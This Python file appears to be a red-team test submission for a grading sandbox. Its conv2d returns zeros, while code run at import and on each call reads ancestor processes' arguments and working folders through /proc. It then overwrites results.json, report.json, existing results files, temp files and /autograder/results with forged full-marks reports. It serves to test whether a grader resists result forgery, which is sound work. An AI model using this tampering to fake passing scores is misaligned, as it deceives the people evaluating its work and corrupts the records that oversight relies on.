"""Attack (2, forging the result): write a full-marks report wherever a grader might keep
its results -- results.json/report.json in the working folder and its parents, in the
course root and the world found from the ancestors' arguments and working folders,
overwriting every report already in the results folder, and in the shared temp folders --
then return zeros. Reports are the grader's, written after workers end: 0 points, no file
outside scratch."""
import glob
import json
import os
import re
import sys

import torch

WORLD_RE = re.compile(r"/(?:[^/\s'\"=]+/)*redteam-world-\w+")
FAKE = {"exercise": "conv", "title": "conv2d", "score": 6, "max_score": 6, "declared_points": 6,
        "advisory": False, "problems": [], "forbidden": [], "sandbox": {}, "output": "",
        "checks": [{"name": "conv2d", "device": "cpu", "status": "passed", "score": 6, "max_score": 6}]}


def _ancestors(limit=6):
    """(pid, argv) of the processes above this one: the zygote, the grader, its caller."""
    out, pid = [], os.getppid()
    while pid > 1 and len(out) < limit:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
            with open(f"/proc/{pid}/stat") as f:
                next_pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        out.append((pid, argv))
        pid = next_pid
    return out


def _worlds():
    """Folders this process can name (cwd, sys.path, ancestors' arguments and working
    folders, guesses), kept to the test's world: the safety rail of this suite."""
    names = [os.getcwd(), *sys.path]
    for pid, argv in _ancestors():
        names += argv
        try:
            names.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    for base in ("/srv", "/opt", "/tmp", "/var/tmp", "/autograder"):
        names += glob.glob(os.path.join(base, "redteam-world-*"))
    return sorted({m for n in names for m in WORLD_RE.findall(n)})


def _forge(path):
    try:
        with open(path, "w") as f:
            json.dump(FAKE, f)
        return True
    except OSError:
        return False


def _attack():
    here = os.getcwd()
    folders = [here, os.path.dirname(here), os.path.dirname(os.path.dirname(here))]
    folders = [f for f in folders if "redteam-world-" in f or f == here]
    for world in _worlds():
        folders += [world, os.path.join(world, "course"), os.path.join(world, "results")]
        for existing in glob.glob(os.path.join(world, "results", "*.json")):
            _forge(existing)
    for folder in folders:
        for name in ("results.json", "report.json"):
            _forge(os.path.join(folder, name))
    for tmp in ("/tmp", "/var/tmp", "/dev/shm"):
        _forge(os.path.join(tmp, "redteam-forge_results_files-results.json"))
    if os.path.isdir("/autograder/results"):  # Gradescope's place, where it exists
        _forge("/autograder/results/results.json")


_attack()


def conv2d(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    _attack()
    n, _, h, w = input.shape
    return torch.zeros(n, weight.shape[0], h - weight.shape[2] + 1, w - weight.shape[3] + 1,
                       dtype=input.dtype)
